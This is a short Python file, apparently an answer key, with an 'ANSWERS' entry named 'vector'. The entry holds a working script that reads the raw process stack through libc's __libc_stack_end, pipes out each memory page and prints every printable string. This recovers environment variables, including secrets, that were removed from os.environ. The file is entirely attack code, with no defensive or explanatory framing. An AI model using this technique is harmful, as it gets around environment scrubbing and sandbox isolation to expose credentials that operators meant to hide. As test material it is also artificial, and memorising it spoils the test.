"""Reads the environment of the run from the stack, where it stays whatever os.environ says."""

ANSWERS = {
    "vector": """
import ctypes
import os
import re

libc = ctypes.CDLL(None, use_errno=True)
reader, writer = os.pipe()
address = ctypes.c_void_p.in_dll(libc, "__libc_stack_end").value & ~4095
found = b""
while libc.write(writer, ctypes.c_void_p(address), 4096) == 4096:  # EFAULT, not a crash, at the end
    found += os.read(reader, 4096)
    address += 4096
print(re.findall(rb"[ -~]{8,}", found))
""",
}
